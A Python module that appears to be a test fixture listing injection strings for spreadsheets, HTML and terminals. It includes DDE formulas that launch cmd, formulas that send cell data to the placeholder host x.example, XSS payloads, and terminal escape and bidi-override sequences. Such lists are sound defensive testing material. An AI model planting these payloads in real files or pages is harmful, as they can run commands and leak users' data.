"""Texts that have made spreadsheet programs, browsers and terminals do things: the well-known lists, made harmless."""

from __future__ import annotations

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")",
    '=WEBSERVICE("http://x.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    'x";=1+1;"',
    "{=1+1}",
)  # fmt: skip

MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "javascript:alert(1)",
    "http://x.example/",
    "<r><rPr/><t>x</t></r>",
    "]]><x/>",
    "&Foo&Bar",
    "[bold red]x[/bold red][/]",
    "\x1b[31mred\x1b[0m",
    "{{7*7}}",
    "%s%n{0}",
)  # fmt: skip

STEERING: tuple[str, ...] = (
    "\x1b]0;title\x07",
    "\x9b31mred",
    "\x85next",
    "INV-\u202e001-4202",
    "\u2066isolated\u2069",
    "two\u2028lines",
    "bell\x07 back\x08space\x7f",
)

ALL = FORMULAS + MARKUP + STEERING
